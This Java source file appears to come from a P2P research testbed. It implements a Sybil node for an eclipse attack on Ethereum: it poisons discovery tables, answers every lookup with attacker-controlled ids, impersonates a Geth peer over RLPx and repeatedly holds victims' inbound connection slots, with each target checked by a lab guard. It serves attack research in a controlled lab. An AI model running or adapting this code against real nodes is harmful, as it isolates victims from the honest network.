package io.p2ptestbed.adversary.ethereum;

import io.p2ptestbed.adversary.lab.LabGuard;
import io.p2ptestbed.overlay.ethereum.DevP2p;
import io.p2ptestbed.overlay.ethereum.Discv4;
import io.p2ptestbed.overlay.ethereum.EthNode;
import io.p2ptestbed.overlay.ethereum.EthTable;
import io.p2ptestbed.overlay.ethereum.NodeKey;
import io.p2ptestbed.overlay.ethereum.Recoveries;
import io.p2ptestbed.overlay.ethereum.Rlpx;
import io.p2ptestbed.overlay.id.Contact;
import io.p2ptestbed.overlay.id.NodeAddress;
import io.p2ptestbed.overlay.id.NodeId;
import io.p2ptestbed.overlay.spi.OverlayNode;
import io.p2ptestbed.overlay.time.Scheduler;
import io.p2ptestbed.overlay.transport.Transport;
import io.p2ptestbed.overlay.transport.stream.CloseReason;
import io.p2ptestbed.overlay.transport.stream.Connection;
import io.p2ptestbed.overlay.transport.stream.ConnectionHandler;
import io.p2ptestbed.overlay.transport.stream.PerConnection;
import io.p2ptestbed.overlay.transport.stream.StreamTransport;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.random.RandomGenerator;

/**
 * One node id of Marcus, Heilman and Goldberg's attacker, at its own UDP/TCP port on one of the attacker's few
 * IP addresses. On discovery v4 it pings victims with its own key ({@link #poison}: the victim answers, bonds back,
 * and adds it to its table and db), answers pings, and answers every findnode with the attacker's own ids closest
 * to the target (the {@link Roster}), so a victim's lookups find only attacker nodes. On devp2p it speaks RLPx as the
 * victim does ({@link Rlpx}: the ECIES auth/ack handshake with its own key, then encrypted frames): it accepts the
 * victim's dials (Hello and eth Status answered, connection held, nothing relayed) and {@link #hold}s inbound slots of
 * a victim, retrying once a second for a bounded time. To dial a victim it needs the victim's key, which it learns as
 * discovery teaches it: from the signature of the victim's pong to its poisoning ping. Its Status copies the victim's
 * network id and genesis (an attacker joins the victim's chain). Handshake randomness (ephemeral keys, nonces, IVs)
 * comes from the generator it is given. Every target passes the {@link LabGuard}.
 */
public final class EthSybil implements OverlayNode {

    /** The attacker's ids, shared by its Sybils (immutable once built). */
    public static final class Roster {
        final List<EthTable.Node> nodes = new ArrayList<>();

        public void add(NodeKey key, NodeAddress address) {
            nodes.add(new EthTable.Node(key.id(), address, address.port()));
        }

        public int size() {
            return nodes.size();
        }

        List<Discv4.NodeRecord> closest(byte[] target, int k) {
            byte[] th = NodeKey.keccak256(target);
            List<EthTable.Node> all = new ArrayList<>(nodes);
            all.sort(EthTable.byDistanceTo(th));
            List<Discv4.NodeRecord> out = new ArrayList<>();
            for (EthTable.Node n : all.subList(0, Math.min(k, all.size()))) {
                out.add(n.record());
            }
            return out;
        }
    }

    /** Attempts to (re)take a victim's inbound slot, one a second at most. */
    public static final int HOLD_ATTEMPTS = 120;

    private final NodeAddress address;
    private final NodeKey key;
    private final Transport udp;
    private final StreamTransport streams;
    private final Scheduler scheduler;
    private final Roster roster;
    private final LabGuard guard;
    private final RandomGenerator rng;
    private final Map<Long, Connection> held = new LinkedHashMap<>();
    /** Victims' ids learned from their signed discovery packets, by address. */
    private final Map<NodeAddress, byte[]> ids = new HashMap<>();
    private long pings;
    private long unknownIds;
    private long malformed;
    private boolean running;

    public EthSybil(NodeAddress address, NodeKey key, Transport udp, StreamTransport streams, Scheduler scheduler, Roster roster,
                    LabGuard guard, RandomGenerator rng) {
        this.address = guard.check(address, "ethereum sybil bind address");
        this.key = key.withRecoveries(Recoveries.forClock(scheduler));
        this.udp = udp;
        this.streams = streams;
        this.scheduler = scheduler;
        this.roster = roster;
        this.guard = guard;
        this.rng = rng;
    }

    /** The contact a victim's neighbour set shows for this id (honest ethereum nodes: SHA-1 of the address). */
    public Contact asContact() {
        return new Contact(NodeId.ofAddress(address), address);
    }

    private long expiration() {
        return scheduler.unixSeconds() + 20;
    }

    private Discv4.Endpoint self() {
        return new Discv4.Endpoint(address.ip(), address.port(), address.port());
    }

    private void send(NodeAddress to, Discv4.Packet p) {
        udp.send(to, Discv4.encode(key, p));
    }

    /** Pings {@code victim} with this id, so that it bonds with it and stores it (table, db). */
    public void poison(NodeAddress victim) {
        guard.check(victim, "eclipse victim");
        scheduler.execute(() -> {
            pings++;
            send(victim, new Discv4.Ping(Discv4.VERSION, self(), new Discv4.Endpoint(victim.ip(), victim.port(), victim.port()),
                    expiration(), -1));
        });
    }

    private void onDatagram(NodeAddress from, byte[] data) {
        Discv4.Decoded d;
        try {
            d = Discv4.decode(data, key.recoveries());
        } catch (Discv4.MalformedPacket e) {
            malformed++;
            return;
        }
        if (!guard.permits(from)) {
            return;
        }
        ids.put(from, d.sender());
        if (d.packet() instanceof Discv4.Ping) {
            send(from, new Discv4.Pong(new Discv4.Endpoint(from.ip(), from.port(), from.port()), d.hash(), expiration(), -1));
        } else if (d.packet() instanceof Discv4.FindNode f) {
            List<Discv4.NodeRecord> all = roster.closest(f.target(), 16);
            for (int i = 0; i < all.size(); i += Discv4.MAX_NEIGHBORS) {
                send(from, new Discv4.Neighbors(all.subList(i, Math.min(all.size(), i + Discv4.MAX_NEIGHBORS)), expiration()));
            }
        }
    }

    private DevP2p.Hello hello() {
        return new DevP2p.Hello(DevP2p.P2P_VERSION, "Geth/v1.7.3-stable", List.of(new DevP2p.Cap("eth", DevP2p.ETH_VERSION)),
                address.port(), key.id());
    }

    /** Connects to {@code victim} and holds the connection; retries (at most {@link #HOLD_ATTEMPTS}, 1 s apart) when refused or dropped. */
    public void hold(NodeAddress victim) {
        guard.check(victim, "eclipse victim");
        scheduler.execute(() -> connect(victim, HOLD_ATTEMPTS));
    }

    private void connect(NodeAddress victim, int left) {
        if (!running || left <= 0) {
            return;
        }
        byte[] id = ids.get(victim);
        if (id == null) {
            // RLPx needs the victim's key: without a signed packet from it, there is nothing to encrypt the auth to
            unknownIds++;
            return;
        }
        streams.connect(victim, new Side(id) {
            @Override
            void retry() {
                scheduler.schedule(1_000, () -> connect(victim, left - 1));
            }
        });
    }

    /** Connections held now. */
    public int held() {
        int n = 0;
        for (Connection c : held.values()) {
            if (c.isOpen()) {
                n++;
            }
        }
        return n;
    }

    private class Side implements ConnectionHandler {
        final boolean dialler;
        /** The victim's id (dialler), null when accepting. */
        final byte[] remoteId;
        Rlpx.Link link;
        boolean shaken;
        boolean statusSent;
        /** Our Hello sent; with both Hellos exchanged at version 5, every message's data is Snappy-compressed. */
        boolean helloSent;
        boolean snappy;

        /** Dials the victim of id {@code remoteId}. */
        Side(byte[] remoteId) {
            this.dialler = true;
            this.remoteId = remoteId;
        }

        /** Accepts a victim's dial. */
        Side() {
            this.dialler = false;
            this.remoteId = null;
        }

        void retry() {}

        private void send(Connection c, DevP2p.Msg m) {
            c.send(link.seal(DevP2p.encode(m, snappy)));
            if (m instanceof DevP2p.Hello) {
                helloSent = true;
            }
        }

        @Override
        public void opened(Connection c) {
            held.put(c.id(), c);
            if (dialler) {
                link = Rlpx.Link.dial(key, remoteId, rng);
                c.send(link.auth());
            } else {
                link = Rlpx.Link.accept(key, rng);
            }
        }

        @Override
        public void frame(Connection c, byte[] frame) {
            DevP2p.Msg m;
            try {
                byte[] plain = link.receive(frame, c::send);
                if (plain == null) {
                    if (dialler) {
                        send(c, hello());
                    }
                    return;
                }
                m = DevP2p.decode(plain, snappy);
            } catch (Rlpx.RlpxException | DevP2p.MalformedFrame e) {
                malformed++;
                c.reset();
                return;
            }
            if (m instanceof DevP2p.Hello h && !shaken) {
                shaken = true;
                if (!dialler) {
                    send(c, hello());
                }
                snappy = helloSent && h.version() >= DevP2p.SNAPPY_VERSION;
            } else if (m instanceof DevP2p.Status st && !statusSent) {
                statusSent = true;
                send(c, new DevP2p.Status(st.version(), st.networkId(), DevP2p.GENESIS_DIFFICULTY, st.genesisHash(),
                        st.genesisHash()));
            } else if (m instanceof DevP2p.PingMsg) {
                send(c, new DevP2p.PongMsg());
            } else if (m instanceof DevP2p.Disconnect) {
                c.close();
            }
        }

        @Override
        public void closed(Connection c, CloseReason reason) {
            held.remove(c.id());
            retry();
        }

        @Override
        public void failed(NodeAddress to, CloseReason reason) {
            retry();
        }
    }

    // --- OverlayNode (an extra node of the runtime, outside the honest network) ---

    @Override
    public String protocol() {
        return EthNode.PROTOCOL;
    }

    @Override
    public NodeId id() {
        return NodeId.ofAddress(address);
    }

    @Override
    public NodeAddress address() {
        return address;
    }

    @Override
    public void start() {
        running = true;
        udp.setHandler(this::onDatagram);
        streams.listen(new PerConnection(Side::new));
    }

    @Override
    public CompletableFuture<Void> join(List<NodeAddress> seeds) {
        return CompletableFuture.completedFuture(null);
    }

    @Override
    public void stop() {
        if (!running) {
            return;
        }
        running = false;
        for (Connection c : List.copyOf(held.values())) {
            c.reset();
        }
        held.clear();
        streams.close();
        udp.setHandler((f, d) -> {});
    }

    @Override
    public boolean isRunning() {
        return running;
    }

    @Override
    public List<Contact> neighbours() {
        return List.of();
    }

    @Override
    public Map<String, Long> counters() {
        Map<String, Long> m = new LinkedHashMap<>();
        m.put("pings", pings);
        m.put("held", (long) held());
        m.put("malformed", malformed);
        m.put("hold.unknown_id", unknownIds);
        return m;
    }

    @Override
    public Scheduler scheduler() {
        return scheduler;
    }

    @Override
    public <C> Optional<C> capability(Class<C> type) {
        return type == EthSybil.class ? Optional.of(type.cast(this)) : Optional.empty();
    }
}
